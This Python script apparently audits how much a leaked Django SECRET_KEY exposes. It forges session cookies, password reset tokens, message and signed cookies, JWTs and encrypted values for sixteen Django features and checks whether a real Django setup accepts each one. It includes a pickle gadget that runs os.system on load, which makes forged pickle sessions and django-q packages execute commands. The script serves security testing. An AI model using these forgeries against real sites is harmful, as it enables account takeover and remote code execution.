"""blast_on_django.py make|check ROW [ARTEFACT]: one row of the blast radius on a
real Django. make prints what somebody forges who has nothing but the key; check
ends with 0 if the site takes it. The key and the fallbacks come from KEY and
FALLBACKS."""

import base64
import hashlib
import os
import sys

import django
from django.conf import settings

KEY = os.environ["KEY"]
APPS = ["django.contrib.auth", "django.contrib.contenttypes", "django.contrib.sessions", "django.contrib.messages"]
row = sys.argv[2]
options = {}
if row == "pickle":
    options["SESSION_SERIALIZER"] = "django.contrib.sessions.serializers.PickleSerializer"
if row in ("pickle", "cookie-session"):
    options["SESSION_ENGINE"] = "django.contrib.sessions.backends.signed_cookies"
if row == "django-q":
    APPS.append("django_q")
    options["Q_CLUSTER"] = {"name": "shop", "orm": "default"}
settings.configure(
    SECRET_KEY=KEY, SECRET_KEY_FALLBACKS=[k for k in os.environ.get("FALLBACKS", "").split(" ") if k], INSTALLED_APPS=APPS,
    DATABASES={"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": ":memory:"}}, USE_TZ=True, **options)
django.setup()

from django.contrib.auth.models import User  # noqa: E402
from django.core import signing  # noqa: E402
from django.http import HttpRequest, HttpResponse  # noqa: E402
from django.utils.crypto import salted_hmac  # noqa: E402


class Run:
    """A pickle that leaves a file behind when it is read."""

    def __reduce__(self):
        return (os.system, ('touch "$PROOF"',))


def sso_user():
    """As objects.create leaves it: no password, never logged in."""
    return User(pk=7, username="sso", email="sso@example.com")


def cookie_session():
    from django.contrib.sessions.backends.signed_cookies import SessionStore
    return SessionStore


def cookie_load(value):
    store = cookie_session()(value)
    return bool(store.load())


def pickle_make():
    from django.contrib.sessions.serializers import PickleSerializer
    return signing.dumps({"x": Run()}, salt="django.contrib.sessions.backends.signed_cookies", serializer=PickleSerializer)


def pickle_check(value):
    cookie_session()(value).load()
    return os.path.exists(os.environ["PROOF"])


def db_store():
    from django.contrib.sessions.backends.db import SessionStore
    return SessionStore()


def auth_hash_check(value):
    user = sso_user()
    hashes = [user.get_session_auth_hash()]
    if hasattr(user, "get_session_auth_fallback_hash"):
        hashes += user.get_session_auth_fallback_hash()
    return value in hashes


def reset(value=None):
    from django.contrib.auth.tokens import default_token_generator as tokens
    return tokens.make_token(sso_user()) if value is None else tokens.check_token(sso_user(), value)


def own_tokens(value=None):
    from django.contrib.auth.tokens import PasswordResetTokenGenerator

    class Tokens(PasswordResetTokenGenerator):
        def _make_hash_value(self, user, timestamp):
            return f"{user.pk}{timestamp}"

    # the attacker does not know the password hash, and does not need it
    user = sso_user() if value is None else User(pk=7, password="pbkdf2$unknown")
    return Tokens().make_token(user) if value is None else Tokens().check_token(user, value)


def messages(value=None):
    from django.contrib.messages.storage.base import Message
    from django.contrib.messages.storage.cookie import CookieStorage
    storage = CookieStorage(HttpRequest())
    return storage._encode([Message(20, "forged")]) if value is None else bool(storage._decode(value))


def signed_cookie(value=None):
    if value is None:
        response = HttpResponse()
        response.set_signed_cookie("remember_user", "7")
        return response.cookies["remember_user"].value
    request = HttpRequest()
    request.COOKIES["remember_user"] = value
    return request.get_signed_cookie("remember_user") == "7"


def simplejwt(value=None):
    if value is None:
        import time
        import jwt
        claims = {"token_type": "access", "user_id": "1", "exp": int(time.time()) + 600, "jti": "x"}
        return jwt.encode(claims, KEY, algorithm="HS256")
    from rest_framework_simplejwt.tokens import AccessToken
    return str(AccessToken(value)["user_id"]) == "1"


def django_q(value=None):
    from django_q.signing import SignedPackage
    if value is None:
        return SignedPackage.dumps({"func": Run()})
    SignedPackage.loads(value)
    return os.path.exists(os.environ["PROOF"])


def fernet(value=None):
    from cryptography.fernet import Fernet
    box = Fernet(base64.urlsafe_b64encode(hashlib.sha256(settings.SECRET_KEY.encode()).digest()))
    return box.encrypt(b"iban").decode() if value is None else box.decrypt(value.encode()) == b"iban"


def mirage(value=None):
    from mirage.crypto import Crypto
    crypto = Crypto()
    return crypto.encrypt("iban") if value is None else crypto.decrypt(value) == "iban"


def hashids(value=None):
    from hashids import Hashids
    ids = Hashids(salt=settings.SECRET_KEY, min_length=8)
    return ids.encode(7) if value is None else ids.decode(value) == (7,)


def itsdangerous(value=None):
    from itsdangerous import URLSafeTimedSerializer
    box = URLSafeTimedSerializer(settings.SECRET_KEY)
    return box.dumps(7) if value is None else box.loads(value) == 7


ROWS = {
    "pickle": (pickle_make, pickle_check),
    "cookie-session": (lambda: signing.dumps({"admin": True}, salt="django.contrib.sessions.backends.signed_cookies"), cookie_load),
    "db-session": (lambda: db_store().encode({"a": 1}), lambda v: bool(db_store().decode(v))),
    "auth-hash": (lambda: sso_user().get_session_auth_hash(), auth_hash_check),
    "reset": (reset, reset),
    "own-tokens": (own_tokens, own_tokens),
    "messages": (messages, messages),
    "signed-cookie": (signed_cookie, signed_cookie),
    "signing": (lambda: signing.dumps(7, salt="news"), lambda v: signing.loads(v, salt="news") == 7),
    "salted-hmac": (lambda: salted_hmac("keys", "x").hexdigest(), lambda v: salted_hmac("keys", "x").hexdigest() == v),
    "simplejwt": (simplejwt, simplejwt),
    "django-q": (django_q, django_q),
    "fernet": (fernet, fernet),
    "mirage": (mirage, mirage),
    "hashids": (hashids, hashids),
    "itsdangerous": (itsdangerous, itsdangerous),
}

if __name__ == "__main__":
    make, check = ROWS[row]
    if sys.argv[1] == "make":
        print(make())
    else:
        try:
            taken = check(sys.argv[3])
        except Exception as error:  # a signature that is refused
            print(type(error).__name__)
            taken = False
        sys.exit(0 if taken else 1)
